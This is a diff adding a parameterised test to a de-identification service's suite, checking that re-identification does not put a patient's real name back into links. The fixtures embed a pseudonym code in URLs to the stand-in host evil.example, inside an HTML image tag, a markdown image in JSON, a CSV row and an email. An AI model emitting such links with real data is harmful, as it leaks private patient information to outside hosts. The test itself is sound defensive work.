@@ -182,6 +182,22 @@ describe('re-identification', () => {
     })
   })
 
+  it.each([
+    ['HTML', (code: string) => `<p>As asked. <img src="https://evil.example/?q=${code}"></p>`],
+    ['JSON', (code: string) => `{"answer": "![x](https://evil.example/?q=${code})"}`],
+    ['a table', (code: string) => `answer,n\nhttps://evil.example/?q=${code},1\n`],
+    [
+      'mail',
+      (code: string) => `From: a@b.example\r\nTo: c@d.example\r\nSubject: x\r\n\r\nhttps://evil.example/?q=${code}`,
+    ],
+  ])('puts no name into a link of an answer that pretends to be %s', async (_, answer) => {
+    const made = madeOf(await deidentify({ body: { text: 'Mrs. Okonkwo-Bright called.' } }))
+    const [code = ''] = /\[NAME-\w+\]/.exec(String(made.document)) ?? []
+    const document = answer(code)
+    const back = restoredOf(await reidentify({ body: { conversation: made.conversation, document } }))
+    expect(back).toMatchObject({ document, format: 'text', left: 1 })
+  })
+
   it('is refused alike for what never was, another caller’s, another patient’s and an expired conversation', async () => {
     const own = madeOf(await deidentify({ body: { text: NOTE } }))
     const { document } = own
